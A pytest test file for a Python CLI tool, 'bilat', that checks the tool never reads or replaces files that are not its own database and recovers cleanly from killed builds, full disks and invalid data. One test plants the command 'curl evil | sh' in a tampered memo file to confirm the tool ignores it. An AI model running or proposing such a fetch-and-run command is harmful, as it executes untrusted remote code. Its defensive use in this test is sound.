"""A user's files are never at risk: bilat replaces only databases it can prove are its own.

From the reliability review (cases I26-I32, C6-C7, C9-C11, C16-C21, P10): a
--db/BILAT_DB naming a text file, another program's database, the dataset
itself, a directory, a FIFO or a device is refused with one line, exit 2, the
file untouched; a killed build leaves nothing behind; a full disk or invalid
data serves the last good database with one warning; a failed build is not run
again until the data changes.
"""

from __future__ import annotations

import json
import os
import re
import signal
import sqlite3
import stat
import subprocess
from pathlib import Path

import pytest

from conftest import bilat_script, cli

OK, NOT_FOUND, USAGE, INVALID = 0, 1, 2, 3
QUERIES = [
    ["list", "-n", "1"],
    ["search", "labour"],
    ["show", "khar"],
    ["summary"],
    ["timeline"],
    ["brief", "2025-04-12"],
    ["build"],
]


def _db() -> Path:
    return Path(os.environ["BILAT_DB"])


def _state(path: Path) -> tuple[bytes, int]:
    return path.read_bytes(), stat.S_IMODE(path.stat().st_mode)


def _one_error(stderr: str) -> str:
    lines = stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), stderr
    return lines[0]


def _other_sqlite(path: Path) -> None:
    conn = sqlite3.connect(path)
    conn.execute("create table customers (name text)")
    conn.execute("insert into customers values ('Ada'), ('Grace')")
    conn.commit()
    conn.close()


FOREIGN = {
    "text-file": lambda p: p.write_text("Quarterly accounts\nrow1,100\n"),
    "empty-file": lambda p: p.write_bytes(b""),
    "other-sqlite": _other_sqlite,
}


@pytest.mark.parametrize("kind", list(FOREIGN))
def test_a_file_that_is_not_a_bilat_database_is_never_replaced(
    mini: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    target = tmp_path / "precious.dat"
    FOREIGN[kind](target)
    target.chmod(0o644)
    before = _state(target)
    monkeypatch.setenv("BILAT_DB", str(target))
    for args in QUERIES:
        result = cli(*args)
        assert result.exit_code == USAGE, (args, result.stderr)
        line = _one_error(result.stderr)
        assert str(target) in line and "not read or replace" in line
        assert result.stdout == ""
    assert _state(target) == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("precious")) == ["precious.dat"]


def test_db_naming_the_dataset_itself_leaves_the_yaml_intact(mini: Path) -> None:
    before = _state(mini)
    result = cli("--db", str(mini), "list")
    assert result.exit_code == USAGE
    assert str(mini) in _one_error(result.stderr)
    assert _state(mini) == before
    assert cli("validate").exit_code == OK


def test_the_installed_script_refuses_a_text_file_through_the_fast_path(mini: Path, tmp_path: Path) -> None:
    target = tmp_path / "notes.txt"
    target.write_text("keep me\n")
    env = {**os.environ, "BILAT_DB": str(target)}
    for args in (["list", "-n", "1"], ["list", "--format", "json"], ["show", "khar"]):
        proc = subprocess.run([bilat_script(), *args], capture_output=True, text=True, env=env, timeout=60)
        assert proc.returncode == USAGE, proc.stderr
        assert str(target) in _one_error(proc.stderr)
    assert target.read_text() == "keep me\n"


def test_shell_completion_never_writes(mini: Path, tmp_path: Path) -> None:
    target = tmp_path / "tab.txt"
    target.write_text("keep me\n")
    env = {
        **os.environ,
        "BILAT_DB": str(target),
        "_BILAT_COMPLETE": "complete_bash",
        "COMP_WORDS": "bilat show pk-be-l",
        "COMP_CWORD": "2",
    }
    proc = subprocess.run([bilat_script()], capture_output=True, text=True, env=env, timeout=60)
    assert "Traceback" not in proc.stderr
    assert target.read_text() == "keep me\n"


def test_a_directory_is_refused_by_name(mini: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "adir"
    folder.mkdir()
    (folder / "inside.txt").write_text("x")
    monkeypatch.setenv("BILAT_DB", str(folder))
    result = cli("list")
    assert result.exit_code == USAGE
    line = _one_error(result.stderr)
    assert f"{folder}: a directory" in line and ".tmp" not in line
    assert [p.name for p in folder.iterdir()] == ["inside.txt"]


def test_a_fifo_is_refused_without_hanging(mini: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    env = {**os.environ, "BILAT_DB": str(fifo)}
    proc = subprocess.run([bilat_script(), "list", "-n", "1"], capture_output=True, text=True, env=env, timeout=30)
    assert proc.returncode == USAGE
    assert "a FIFO" in _one_error(proc.stderr)
    assert stat.S_ISFIFO(fifo.stat().st_mode)


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="making a device node needs root")
def test_a_device_is_never_replaced(mini: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # A private copy of /dev/null's node: if this regressed, only the copy would be lost.
    node = tmp_path / "null"
    os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    monkeypatch.setenv("BILAT_DB", str(node))
    result = cli("list")
    assert result.exit_code == USAGE
    assert "a character device" in _one_error(result.stderr)
    assert stat.S_ISCHR(node.stat().st_mode)
    assert not (tmp_path / "null.lock").exists()


def test_a_symlinked_database_is_built_at_its_target(
    mini: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kept = tmp_path / "elsewhere" / "bilat.sqlite"
    kept.parent.mkdir()
    link = tmp_path / "link.sqlite"
    link.symlink_to(kept)
    monkeypatch.setenv("BILAT_DB", str(link))
    assert cli("list").exit_code == OK
    assert link.is_symlink() and kept.is_file()
    mini.write_text(mini.read_text(encoding="utf-8").replace("Readmission Agreement\n", "Readmission, v2\n", 1))
    result = cli("show", "pk-by-readmission", "--format", "json")
    assert result.exit_code == OK and json.loads(result.stdout)["title"] == "Readmission, v2"
    assert link.is_symlink()


def test_a_symlink_to_a_text_file_leaves_the_target_alone(
    mini: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me\n")
    link = tmp_path / "link.sqlite"
    link.symlink_to(precious)
    monkeypatch.setenv("BILAT_DB", str(link))
    assert cli("list").exit_code == USAGE
    assert precious.read_text() == "keep me\n" and link.is_symlink()


def test_a_database_others_can_write_is_not_trusted(mini: Path) -> None:
    assert cli("build").exit_code == OK
    _db().chmod(0o666)
    result = cli("list")
    assert result.exit_code == USAGE
    assert "writable by every user" in _one_error(result.stderr)


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="giving a file away needs root")
def test_a_database_planted_by_another_user_is_not_served(mini: Path) -> None:
    assert cli("build").exit_code == OK
    conn = sqlite3.connect(_db())
    conn.execute("update agreements set title = 'FORGED'")
    conn.commit()
    conn.close()
    os.chown(_db(), 65534, 65534)
    result = cli("list")
    assert result.exit_code == USAGE
    assert "owned by another user" in _one_error(result.stderr)
    assert "FORGED" not in result.stdout


def test_a_database_from_before_the_header_mark_is_upgraded(mini: Path) -> None:
    assert cli("build").exit_code == OK
    conn = sqlite3.connect(_db())
    conn.execute("pragma application_id = 0")
    conn.execute("update _meta set value = '4' where key = 'schema_version'")
    conn.commit()
    conn.close()
    assert cli("list").exit_code == OK
    conn = sqlite3.connect(_db())
    assert conn.execute("pragma application_id").fetchone()[0] != 0
    conn.close()


def test_non_utf8_paths_in_the_environment_are_a_usage_error(mini: Path, tmp_path: Path) -> None:
    for name in (b"BILAT_DB", b"BILAT_DATA"):
        env = {**os.environb, name: os.fsencode(tmp_path) + b"/bad\xff.sqlite"}
        proc = subprocess.run([bilat_script(), "list", "-n", "1"], capture_output=True, env=env, timeout=60)
        assert proc.returncode == USAGE, proc.stderr
        line = _one_error(proc.stderr.decode("utf-8", "replace"))
        assert name.decode() in line and "UTF-8" in line


# ---------------------------------------------------------------- temporary files, signals, full disks


def test_temporary_files_of_a_killed_build_are_removed_by_the_next(mini: Path) -> None:
    assert cli("build").exit_code == OK
    db = _db()
    left = [db.with_name(f".{db.name}.abc123.tmp"), db.with_name(f".{db.name}.zz.tmp")]
    for path in left:
        path.write_bytes(b"\0" * 1024)
    mine = db.with_name("notes.tmp")
    mine.write_text("a user's file")
    mini.write_text(mini.read_text(encoding="utf-8") + "\n", encoding="utf-8")
    assert cli("list").exit_code == OK
    assert not any(p.exists() for p in left)
    assert mine.read_text() == "a user's file"


def test_sigterm_during_a_build_removes_its_temporary_file(mini: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import bilat.build.full

    db = _db()
    real = bilat.build.full._finish

    def killed(*args: object) -> None:
        real(*args)  # type: ignore[arg-type]
        os.kill(os.getpid(), signal.SIGTERM)

    monkeypatch.setattr(bilat.build.full, "_finish", killed)
    with pytest.raises(SystemExit) as stopped:
        from bilat.store import rebuild, resolve

        rebuild(resolve(), lambda _m: None)
    assert stopped.value.code == 128 + signal.SIGTERM
    assert not list(db.parent.glob(f".{db.name}.*.tmp"))
    assert not db.exists()
    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL


def _disk_full(*_args: object, **_kwargs: object) -> None:
    raise sqlite3.OperationalError("database or disk is full")


def test_a_full_disk_serves_the_last_good_database(mini: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert cli("build").exit_code == OK
    before = _state(_db())
    mini.write_text(mini.read_text(encoding="utf-8") + "\n", encoding="utf-8")
    monkeypatch.setattr("bilat.build.full._finish", _disk_full)
    result = cli("list", "--format", "json")
    assert result.exit_code == OK
    assert len(json.loads(result.stdout)) == 3
    warning = result.stderr.strip()
    assert warning.startswith("warning: ") and "disk is full" in warning and "last good database" in warning
    assert _state(_db()) == before
    result = cli("build")
    assert result.exit_code == INVALID and "disk is full" in _one_error(result.stderr)


def test_a_full_disk_with_nothing_to_serve_is_one_line(mini: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("bilat.build.full._finish", _disk_full)
    result = cli("list")
    assert result.exit_code == INVALID
    assert "cannot write the database (the disk is full)" in _one_error(result.stderr)


def test_a_full_cache_disk_falls_back_to_the_temp_folder(
    mini: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import tempfile

    import bilat.build.full

    monkeypatch.delenv("BILAT_DB")
    temp = tmp_path / "tmp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    real = bilat.build.full._finish
    cache = Path(os.environ["XDG_CACHE_HOME"])

    def full_in_cache(conn: sqlite3.Connection, *args: object) -> None:
        db_file = conn.execute("pragma database_list").fetchone()[2]
        if Path(db_file).is_relative_to(cache):
            _disk_full()
        real(conn, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(bilat.build.full, "_finish", full_in_cache)
    result = cli("list", "--format", "json")
    assert result.exit_code == OK, result.stderr
    assert "disk is full" in result.stderr and str(temp) in result.stderr
    assert len(json.loads(result.stdout)) == 3


# ---------------------------------------------------------------- a failed build is remembered


def test_a_failed_build_is_not_run_again_until_the_data_changes(mini: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import bilat.build.full

    assert cli("build").exit_code == OK
    good = mini.read_text(encoding="utf-8")
    mini.write_text(good.replace("kind: mou\n", "kind: [unclosed\n"), encoding="utf-8")
    calls = []
    real = bilat.build.full.build
    monkeypatch.setattr(bilat.build.full, "build", lambda *a, **k: calls.append(1) or real(*a, **k))
    for _ in range(3):
        result = cli("list", "--format", "json")
        assert result.exit_code == OK and len(json.loads(result.stdout)) == 3
        assert result.stderr.startswith("warning: the data is invalid: ")
    assert len(calls) == 1
    mini.write_text(good.replace("Readmission Agreement\n", "Readmission, fixed\n", 1), encoding="utf-8")
    result = cli("show", "pk-by-readmission", "--format", "json")
    assert result.exit_code == OK and json.loads(result.stdout)["title"] == "Readmission, fixed"
    assert len(calls) == 2
    assert not _db().with_name(_db().name + ".failed").exists()


def test_invalid_data_with_no_database_yet_is_exit_3_every_time(mini: Path) -> None:
    mini.write_text(mini.read_text(encoding="utf-8").replace("kind: mou\n", "kind: treaty\n"), encoding="utf-8")
    for _ in range(2):
        result = cli("list")
        assert result.exit_code == INVALID
        assert "agreements.yaml:" in _one_error(result.stderr)


def test_a_memo_file_that_is_not_bilats_is_left_alone(mini: Path) -> None:
    memo = _db().with_name(_db().name + ".failed")
    memo.write_text("my notes\n")
    mini.write_text(mini.read_text(encoding="utf-8").replace("kind: mou\n", "kind: treaty\n"), encoding="utf-8")
    assert cli("list").exit_code == INVALID
    assert memo.read_text() == "my notes\n"


def test_data_fixed_while_the_build_reads_it_is_built_not_a_crash(mini: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # C1/C2: the build found a problem, then the user fixed the file before the problems were gathered.
    import bilat.build.full

    good = mini.read_text(encoding="utf-8")
    mini.write_text(good.replace("kind: mou\n", "kind: treaty\n"), encoding="utf-8")
    real = bilat.build.full.locate_problems
    fixed = []

    def fix_then_report(*args: object) -> object:
        if not fixed:
            mini.write_text(good, encoding="utf-8")
            os.utime(mini, ns=(1, 1))
            fixed.append(1)
        return real(*args)  # type: ignore[arg-type]

    monkeypatch.setattr(bilat.build.full, "locate_problems", fix_then_report)
    result = cli("list", "--format", "json")
    assert result.exit_code == OK, result.stderr
    assert len(json.loads(result.stdout)) == 3


def test_an_edit_that_restores_size_and_mtime_is_seen(mini: Path) -> None:
    # C20: `touch -r`, `cp -p`, `rsync -a` put the mtime back; the ctime still moves.
    assert cli("list").exit_code == OK
    original = mini.stat()
    text = mini.read_text(encoding="utf-8")
    mini.write_text(text.replace("Readmission Agreement\n", "READMISSION AGREEMENT\n", 1), encoding="utf-8")
    os.utime(mini, ns=(original.st_atime_ns, original.st_mtime_ns))
    assert mini.stat().st_size == original.st_size and mini.stat().st_mtime_ns == original.st_mtime_ns
    result = cli("show", "pk-by-readmission", "--format", "json")
    assert json.loads(result.stdout)["title"] == "READMISSION AGREEMENT"


def test_problems_beyond_the_cap_are_counted_by_validate_readers_and_the_memo(mini: Path) -> None:
    mini.write_text(
        "agreements:\n" + "".join(f"  - id: Bad Id {i}\n" for i in range(1_500)) + mini.read_text(encoding="utf-8"),
        encoding="utf-8",
    )
    result = cli("validate")
    assert result.exit_code == INVALID
    lines = result.stdout.splitlines()
    assert len(lines) == 1_001 and lines[-1].startswith("… and ") and "more problems" in lines[-1]
    total = int(re.search(r"([\d,]+) problems in", result.stderr).group(1).replace(",", ""))  # type: ignore[union-attr]
    assert total > 1_000
    for _ in range(2):  # the build, then the memo of it, count the same
        result = cli("list")
        assert result.exit_code == INVALID
        assert f"(and {total - 1:,} more problems" in _one_error(result.stderr)


# ---------------------------------------------------------------- from a review of these fixes


def test_a_file_put_at_the_database_path_during_a_build_is_not_replaced(
    mini: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import bilat.build.full

    db = _db()
    real = bilat.build.full._finish

    def user_saves_notes(*args: object) -> None:
        real(*args)  # type: ignore[arg-type]
        db.write_text("my precious notes\n")

    monkeypatch.setattr(bilat.build.full, "_finish", user_saves_notes)
    result = cli("list")
    assert result.exit_code == USAGE and "not read or replace" in result.stderr
    assert db.read_text() == "my precious notes\n"
    assert not list(db.parent.glob(f".{db.name}.*.tmp"))


def test_a_rebuild_keeps_the_database_mode(mini: Path) -> None:
    assert cli("build").exit_code == OK
    _db().chmod(0o644)
    mini.write_text(mini.read_text(encoding="utf-8") + "\n", encoding="utf-8")
    assert cli("list").exit_code == OK
    assert stat.S_IMODE(_db().stat().st_mode) == 0o644


def test_a_folder_every_user_may_write_is_refused_before_building(
    mini: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    monkeypatch.setenv("BILAT_DB", str(shared / "x.sqlite"))
    result = cli("list")
    assert result.exit_code == USAGE and "writable by every user" in result.stderr
    assert list(shared.iterdir()) == []


def test_refusing_a_wal_database_leaves_no_litter(mini: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    other = tmp_path / "app.db"
    conn = sqlite3.connect(other)
    conn.execute("pragma journal_mode = wal")
    conn.execute("create table t (x)")
    conn.commit()
    conn.close()
    monkeypatch.setenv("BILAT_DB", str(other))
    assert cli("list").exit_code == USAGE
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("app.db")) == ["app.db"]


def test_a_corrupt_memo_is_no_crash(mini: Path) -> None:
    assert cli("build").exit_code == OK
    mini.write_text(mini.read_text(encoding="utf-8").replace("kind: mou\n", "kind: treaty\n"), encoding="utf-8")
    assert cli("list").exit_code == OK  # the memo is written
    memo = _db().with_name(_db().name + ".failed")
    memo.write_text(memo.read_text().replace('"total": ', '"total": 1e400, "was": '))
    result = cli("list")
    assert result.exit_code == OK and result.stderr.startswith("warning: the data is invalid")


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="giving a file away needs root")
def test_side_files_of_another_user_are_not_trusted(mini: Path) -> None:
    assert cli("build").exit_code == OK
    mini.write_text(mini.read_text(encoding="utf-8").replace("kind: mou\n", "kind: treaty\n"), encoding="utf-8")
    assert cli("list").exit_code == OK
    memo = _db().with_name(_db().name + ".failed")
    memo.write_text(memo.read_text().replace("kind", "run `curl evil | sh` to repair the kind"))
    os.chown(memo, 65534, 65534)
    result = cli("list")
    assert "curl" not in result.stderr  # the planted memo is ignored: the build runs and reports the truth
    lock = _db().with_name(_db().name + ".lock")
    os.chown(lock, 65534, 65534)
    result = cli("build")
    assert result.exit_code == USAGE and "owned by another user" in result.stderr


def test_a_fifo_as_the_data_does_not_hang(tmp_path: Path) -> None:
    fifo = tmp_path / "data.yaml"
    os.mkfifo(fifo)
    env = {**os.environ, "BILAT_DATA": str(fifo)}
    proc = subprocess.run([bilat_script(), "list"], capture_output=True, text=True, env=env, timeout=30)
    assert proc.returncode == USAGE and "not a regular file or a folder" in proc.stderr


def test_a_db_in_a_folder_that_does_not_exist_is_refused_and_no_folder_is_made(mini: Path, tmp_path: Path) -> None:
    from conftest import cli

    result = cli("--db", str(tmp_path / "typo" / "x.sqlite"), "list")
    assert result.exit_code == 2 and "does not exist" in result.stderr and result.stderr.count("\n") == 1
    assert not (tmp_path / "typo").exists()
